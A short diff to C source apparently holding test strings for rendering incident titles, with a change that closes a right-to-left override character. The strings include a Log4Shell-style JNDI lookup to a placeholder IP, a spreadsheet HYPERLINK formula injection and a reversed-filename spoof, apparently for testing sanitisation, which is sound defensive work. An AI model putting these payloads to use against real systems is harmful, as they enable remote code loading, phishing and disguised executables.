@@ -31,7 +31,7 @@ put_title(struct r7_incident *c, struct sc_jw *w)
 		"Angriff auf \"Büro\"\n2. Zeile \\ <b>fett</b>",
 		"${jndi:ldap://203.0.113.9/a} – проверка",
 		"=HYPERLINK(\"http://login.example.net\";\"クリック\")",
-		"\xe2\x80\xaegnp.exe reported on asset" };
+		"\xe2\x80\xaegnp.exe\xe2\x80\xac reported on asset" };
 	char title[256];
 
 	if (c->number % 19 == 7) {
